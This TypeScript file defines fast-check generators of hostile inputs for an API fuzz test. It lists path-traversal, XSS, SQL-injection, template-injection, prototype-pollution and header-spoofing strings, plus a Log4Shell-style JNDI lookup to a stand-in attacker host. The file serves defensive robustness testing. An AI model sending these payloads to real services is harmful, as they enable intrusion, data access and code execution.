/**
 * fast-check arbitraries for hostile input: strings that break parsers, encodings, log lines, HTML and
 * object prototypes, and values of every JSON type. Used by the API fuzz test.
 */
import fc from 'fast-check';

export const NASTY_STRINGS = [
  '', ' ', '\u0000', '\r\n', '\n\nBcc: victim@example.com', '../../../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '%00', '%E0%A4%A', '%',
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' OR '1'='1' --", '${jndi:ldap://evil.example/a}', '{{7*7}}',
  '__proto__', 'constructor', 'prototype', 'hasOwnProperty', '\u202Egnp.exe', '\u2066admin\u2069', '\uFEFF', '\uD800', 'ｆｕｌｌｗｉｄｔｈ',
  'Z\u0334\u0321\u0322a\u0338l\u0335g\u0337o', '\u{1F600}\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', 'null', 'undefined', 'NaN', '-1', '0', '1e309', 'true', '[]', '{}',
  'A'.repeat(300), 'x'.repeat(5000), 'admin@safehaven.local', 'Alice+x@Example.com', 'a@b', '@', `${'a'.repeat(64)}@${'b'.repeat(255)}.com`,
];

export const nastyString = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
    { weight: 2, arbitrary: fc.string({ maxLength: 80 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
    { weight: 1, arbitrary: fc.string({ minLength: 2000, maxLength: 9000, unit: 'grapheme-ascii' }) },
  );

export const anyJson = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    nastyString(),
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(nastyString(), { maxLength: 5 }),
    fc.dictionary(nastyString(), nastyString(), { maxKeys: 5 }),
    fc.jsonValue({ maxDepth: 4 }),
  );

const visibleAscii = (value: string, replacement = '') => value.replace(/[^\x20-\x7E]/g, replacement);

/** Header values a client can really send (visible ASCII), with hostile content. */
export const headerValue = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom('', 'null', 'https://evil.example', 'evil.example', '127.0.0.1, 10.0.0.1', 'Bearer ', 'Bearer a.b.c', 'Basic YWRtaW46YWRtaW4=', '../', '%00'),
    fc.string({ unit: 'grapheme-ascii', maxLength: 200 }).map((value) => visibleAscii(value)),
    fc.string({ unit: 'grapheme-ascii', minLength: 4000, maxLength: 7000 }).map((value) => visibleAscii(value, 'a')),
  );

export const HOSTILE_HEADER_NAMES = [
  'x-forwarded-for', 'x-forwarded-host', 'x-real-ip', 'forwarded', 'origin', 'referer', 'cookie', 'x-amz-date', 'x-origin-verify',
  'cloudfront-viewer-address', 'x-http-method-override', 'content-type', 'accept', 'accept-language', 'user-agent', 'authorization',
] as const;

export const hostileHeaders = (): fc.Arbitrary<Record<string, string>> =>
  fc.dictionary(fc.constantFrom(...HOSTILE_HEADER_NAMES), headerValue(), { maxKeys: 4 });

/** encodeURIComponent, except that a lone surrogate becomes its (invalid) UTF-8 escape instead of a throw. */
export const encodeHostile = (value: string): string => {
  try {
    return encodeURIComponent(value);
  } catch {
    return encodeURIComponent(value.replace(/[\uD800-\uDFFF]/g, '?')).replace(/%3F/g, '%ED%A0%80');
  }
};

/** A path segment: hostile text, percent-encoded or raw (malformed escapes included). */
export const pathSegment = (valid: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.oneof(
    valid.map(encodeHostile),
    nastyString().filter((value) => value.length > 0).map((value) => encodeHostile(value.slice(0, 3000))),
    fc.constantFrom('%E0%A4%A', '%', '%2e%2e', '..', '.', '%2F', 'a%00b', '%F0%9F%98%80', 'x'.repeat(3000)),
  );

export const queryString = (): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constant(''),
    fc.array(fc.tuple(nastyString(), nastyString()), { maxLength: 4 }).map((pairs) =>
      pairs.map(([key, value]) => `${encodeHostile(key.slice(0, 200))}=${encodeHostile(value.slice(0, 500))}`).join('&')),
    fc.constantFrom('a=1&a=2&a=3', '%E0%A4%A=1', '__proto__[admin]=true', 'constructor[prototype][x]=1', '&&&', '=', `token=${'b'.repeat(43)}`),
  );
